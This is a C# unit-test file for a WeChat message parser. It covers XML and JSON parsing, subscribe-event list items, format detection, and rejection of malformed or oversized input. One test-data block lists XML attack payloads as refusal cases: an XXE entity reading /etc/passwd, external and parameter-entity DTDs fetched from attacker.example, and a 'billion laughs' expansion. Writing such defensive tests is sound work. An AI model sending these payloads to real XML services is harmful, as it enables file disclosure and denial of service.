using Siyu.Core.WeChat;

namespace Siyu.Core.Tests.WeChat;

public class WeChatMessageTests
{
    private static WeChatMessage Ok(WeChatResult<WeChatMessage> result)
    {
        Assert.True(result.IsOk, result.Error?.ToString());
        return result.Value;
    }

    private static WeChatError Fails(WeChatResult<WeChatMessage> result, WeChatErrorKind kind)
    {
        Assert.False(result.IsOk);
        Assert.Equal(kind, result.Error.Kind);
        Assert.False(string.IsNullOrWhiteSpace(result.Error.Detail));
        return result.Error;
    }

    [Fact]
    public void Parses_the_published_sample_message()
    {
        var m = Ok(WeChatMessage.ParseXml(WeChatCipherTests.SampleMessage));
        Assert.Equal(WeChatFormat.Xml, m.Format);
        Assert.Equal("gh_10f6c3c3ac5a", m.ToUserName);
        Assert.Equal("oyORnuP8q7ou2gfYjqLzSIWZf0rs", m.FromUserName);
        Assert.Equal(1409735668L, m.CreateTime);
        Assert.Equal("text", m.MsgType);
        Assert.Equal("abcdteT", m.Get("Content"));
        Assert.Equal("6054768590064713728", m.MsgId);
        Assert.Null(m.Event);
        Assert.Null(m.Encrypt);
        Assert.Empty(m.Items);
        Assert.Equal(["ToUserName", "FromUserName", "CreateTime", "MsgType", "Content", "MsgId"], m.Fields.Keys);
    }

    [Fact]
    public void Takes_text_and_cdata_and_ignores_layout_around_cdata()
    {
        var m = Ok(WeChatMessage.ParseXml(
            "<xml>\n  <A>plain text</A>\n  <B>  <![CDATA[video]]>  </B>\n  <C> spaced </C>\n  <D></D>\n  <E/>\n  <F>a &amp; b &#x4E2D;</F>\n</xml>"));
        Assert.Equal("plain text", m.Get("A"));
        Assert.Equal("video", m.Get("B"));
        Assert.Equal(" spaced ", m.Get("C"));
        Assert.Equal("", m.Get("D"));
        Assert.Equal("", m.Get("E"));
        Assert.Equal("a & b 中", m.Get("F"));
    }

    [Fact]
    public void Names_are_case_insensitive()
    {
        var m = Ok(WeChatMessage.ParseXml("<xml><MsgID>42</MsgID><unionid>u1</unionid></xml>"));
        Assert.Equal("42", m.MsgId);
        Assert.Equal("u1", m.Get("UnionId"));
        Assert.Null(m.Get("Nope"));
    }

    [Fact]
    public void CreateTime_is_null_when_not_an_integer()
    {
        Assert.Null(Ok(WeChatMessage.ParseXml("<xml><CreateTime>soon</CreateTime></xml>")).CreateTime);
        Assert.Null(Ok(WeChatMessage.ParseXml("<xml/>")).CreateTime);
    }

    [Fact]
    public void An_empty_root_is_a_message_without_fields()
    {
        Assert.Empty(Ok(WeChatMessage.ParseXml("<xml/>")).Fields);
        Assert.Empty(Ok(WeChatMessage.ParseXml("<xml>\n</xml>")).Fields);
    }

    [Fact]
    public void Nested_elements_are_flattened_with_dotted_names()
    {
        var m = Ok(WeChatMessage.ParseXml(
            "<xml><Event><![CDATA[scancode_push]]></Event><ScanCodeInfo><ScanType><![CDATA[qrcode]]></ScanType>" +
            "<ScanResult><![CDATA[1]]></ScanResult></ScanCodeInfo></xml>"));
        Assert.Equal("qrcode", m.Get("ScanCodeInfo.ScanType"));
        Assert.Equal("1", m.Get("ScanCodeInfo.ScanResult"));
    }

    [Fact]
    public void Subscribe_message_list_items_from_xml()
    {
        var m = Ok(WeChatMessage.ParseXml("""
            <xml>
              <ToUserName><![CDATA[gh_123456789abc]]></ToUserName>
              <FromUserName><![CDATA[otFpruAK8D-E6EfStSYonYSBZ8_4]]></FromUserName>
              <CreateTime>1610969440</CreateTime>
              <MsgType><![CDATA[event]]></MsgType>
              <Event><![CDATA[subscribe_msg_popup_event]]></Event>
              <SubscribeMsgPopupEvent>
                <List>
                  <TemplateId><![CDATA[VRR0UEO9VJOLs0MHlU0OilqX6MVFDwH3_3gz3Oc0NIc]]></TemplateId>
                  <SubscribeStatusString><![CDATA[accept]]></SubscribeStatusString>
                  <PopupScene>2</PopupScene>
                </List>
                <List>
                  <TemplateId><![CDATA[9nLIlbOQZC5Y89AZteFEux3WCXRRRG5Wfzkpssu4bLI]]></TemplateId>
                  <SubscribeStatusString><![CDATA[reject]]></SubscribeStatusString>
                  <PopupScene>2</PopupScene>
                </List>
              </SubscribeMsgPopupEvent>
            </xml>
            """));
        Assert.Equal("subscribe_msg_popup_event", m.Event);
        Assert.Equal(2, m.Items.Count);
        Assert.Equal("VRR0UEO9VJOLs0MHlU0OilqX6MVFDwH3_3gz3Oc0NIc", m.Items[0]["TemplateId"]);
        Assert.Equal("accept", m.Items[0]["subscribestatusstring"]);
        Assert.Equal("reject", m.Items[1]["SubscribeStatusString"]);
        Assert.Equal("2", m.Items[1]["PopupScene"]);
        Assert.Null(m.Get("SubscribeMsgPopupEvent.List.TemplateId")); // items are not also flattened into fields
    }

    [Fact]
    public void A_single_list_item_in_xml()
    {
        var m = Ok(WeChatMessage.ParseXml(
            "<xml><Event>subscribe_msg_sent_event</Event><SubscribeMsgSentEvent><List><TemplateId>t1</TemplateId>" +
            "<MsgID>1700827132819554304</MsgID><ErrorCode>0</ErrorCode><ErrorStatus>success</ErrorStatus></List></SubscribeMsgSentEvent></xml>"));
        var item = Assert.Single(m.Items);
        Assert.Equal("1700827132819554304", item["MsgId"]);
        Assert.Equal("success", item["ErrorStatus"]);
    }

    [Fact]
    public void Parses_json_with_numbers_as_invariant_strings()
    {
        var m = Ok(WeChatMessage.ParseJson("""
            {"ToUserName":"gh_1","FromUserName":"o1","CreateTime":1409735668,"MsgType":"text","Content":"hi",
             "MsgId":6054768590064713728,"Ratio":1.5,"Flag":true,"Gone":null,"Nested":{"A":1,"B":[{"C":"x"},"y"]}}
            """));
        Assert.Equal(WeChatFormat.Json, m.Format);
        Assert.Equal(1409735668L, m.CreateTime);
        Assert.Equal("1409735668", m.Get("CreateTime"));
        Assert.Equal("6054768590064713728", m.MsgId); // beyond double precision: kept exactly
        Assert.Equal("1.5", m.Get("Ratio"));
        Assert.Equal("true", m.Get("Flag"));
        Assert.Null(m.Get("Gone"));
        Assert.Equal("1", m.Get("Nested.A"));
        Assert.Equal("x", m.Get("Nested.B.0.C"));
        Assert.Equal("y", m.Get("Nested.B.1"));
    }

    [Fact]
    public void Subscribe_message_list_items_from_json_as_an_array()
    {
        var m = Ok(WeChatMessage.ParseJson("""
            {"ToUserName":"gh_1","FromUserName":"o1","CreateTime":1620963428,"MsgType":"event","Event":"subscribe_msg_popup_event",
             "SubscribeMsgPopupEvent":{"List":[{"TemplateId":"t1","SubscribeStatusString":"accept","PopupScene":2},
                                               {"TemplateId":"t2","SubscribeStatusString":"reject","PopupScene":"2"}]}}
            """));
        Assert.Equal(2, m.Items.Count);
        Assert.Equal("t1", m.Items[0]["TemplateId"]);
        Assert.Equal("2", m.Items[0]["PopupScene"]);
        Assert.Equal("reject", m.Items[1]["SubscribeStatusString"]);
    }

    [Fact]
    public void Subscribe_message_list_items_from_json_as_one_object()
    {
        var m = Ok(WeChatMessage.ParseJson("""
            {"FromUserName":"o1","MsgType":"event","Event":"subscribe_msg_change_event",
             "SubscribeMsgChangeEvent":{"List":{"TemplateId":"t1","SubscribeStatusString":"reject"}}}
            """));
        var item = Assert.Single(m.Items);
        Assert.Equal("t1", item["TemplateId"]);
    }

    [Fact]
    public void Parse_detects_the_format()
    {
        Assert.Equal(WeChatFormat.Xml, Ok(WeChatMessage.Parse("  \n<xml><A>1</A></xml>")).Format);
        Assert.Equal(WeChatFormat.Json, Ok(WeChatMessage.Parse("\uFEFF {\"A\":1}")).Format);
        Fails(WeChatMessage.Parse("A=1&B=2"), WeChatErrorKind.Malformed);
        Fails(WeChatMessage.Parse("[1,2]"), WeChatErrorKind.Malformed);
        Fails(WeChatMessage.Parse(""), WeChatErrorKind.Malformed);
        Fails(WeChatMessage.Parse("   "), WeChatErrorKind.Malformed);
        Fails(WeChatMessage.Parse(null), WeChatErrorKind.Malformed);
    }

    public static TheoryData<string> DtdDocuments => new()
    {
        // external entity (XXE)
        "<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><xml><Content>&xxe;</Content></xml>",
        // external DTD
        "<!DOCTYPE xml SYSTEM \"http://attacker.example/evil.dtd\"><xml><Content>x</Content></xml>",
        // entity expansion ("billion laughs")
        "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">]><xml><A>&lol2;</A></xml>",
        // parameter entity
        "<!DOCTYPE xml [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]><xml/>",
        // an empty DOCTYPE is still a DTD
        "<!DOCTYPE xml><xml><A>1</A></xml>",
        // a DOCTYPE inside the root
        "<xml><!DOCTYPE xml><A>1</A></xml>",
    };

    [Theory]
    [MemberData(nameof(DtdDocuments))]
    public void Any_dtd_is_refused_with_its_own_kind(string xml)
    {
        var error = Fails(WeChatMessage.ParseXml(xml), WeChatErrorKind.DtdNotAllowed);
        Assert.Equal(400, error.HttpStatus);
        Fails(WeChatMessage.Parse(xml), WeChatErrorKind.DtdNotAllowed);
    }

    [Fact]
    public void Doctype_text_inside_cdata_is_just_content()
    {
        var m = Ok(WeChatMessage.ParseXml("<xml><Content><![CDATA[<!DOCTYPE x>]]></Content></xml>"));
        Assert.Equal("<!DOCTYPE x>", m.Get("Content"));
    }

    [Theory]
    [InlineData("<xml><A>1</A>")]                  // unclosed
    [InlineData("<xml><A>1</B></xml>")]             // mismatched
    [InlineData("<xml><A>1</A></xml><xml/>")]        // two roots
    [InlineData("<xml><A>1</A></xml>trailing")]      // junk after the root
    [InlineData("<xml>just text</xml>")]            // no fields
    [InlineData("<xml><A>&undeclared;</A></xml>")]  // entity reference without any DTD
    [InlineData("<xml><A>1</A><A>2</A></xml>")]      // ambiguous repeated field
    [InlineData("<xml><Encrypt>1</Encrypt><encrypt>2</encrypt></xml>")]
    [InlineData("not xml")]
    public void Malformed_xml_is_refused(string xml)
    {
        var error = Fails(WeChatMessage.ParseXml(xml), WeChatErrorKind.Malformed);
        Assert.Equal(400, error.HttpStatus);
    }

    [Theory]
    [InlineData("{\"A\":1")]
    [InlineData("{\"A\":1,}")]
    [InlineData("{\"A\":1} {}")]
    [InlineData("{\"A\":1,\"A\":2}")] // duplicate names are ambiguous
    [InlineData("[{\"A\":1}]")]
    [InlineData("\"text\"")]
    [InlineData("{/*comment*/\"A\":1}")]
    public void Malformed_json_is_refused(string json)
    {
        Fails(WeChatMessage.ParseJson(json), WeChatErrorKind.Malformed);
    }

    [Fact]
    public void Oversized_bodies_are_refused_unread()
    {
        var big = "<xml><A>" + new string('a', WeChatMessage.MaxLength) + "</A></xml>";
        Assert.Contains("longer", Fails(WeChatMessage.ParseXml(big), WeChatErrorKind.Malformed).Detail);
        Fails(WeChatMessage.ParseJson("{\"A\":\"" + new string('a', WeChatMessage.MaxLength) + "\"}"), WeChatErrorKind.Malformed);
    }

    [Fact]
    public void Deep_nesting_is_refused()
    {
        var xml = "<xml>" + string.Concat(Enumerable.Repeat("<a>", 40)) + "x" + string.Concat(Enumerable.Repeat("</a>", 40)) + "</xml>";
        Fails(WeChatMessage.ParseXml(xml), WeChatErrorKind.Malformed);
        var json = string.Concat(Enumerable.Repeat("{\"a\":", 40)) + "1" + new string('}', 40);
        Fails(WeChatMessage.ParseJson(json), WeChatErrorKind.Malformed);
    }
}
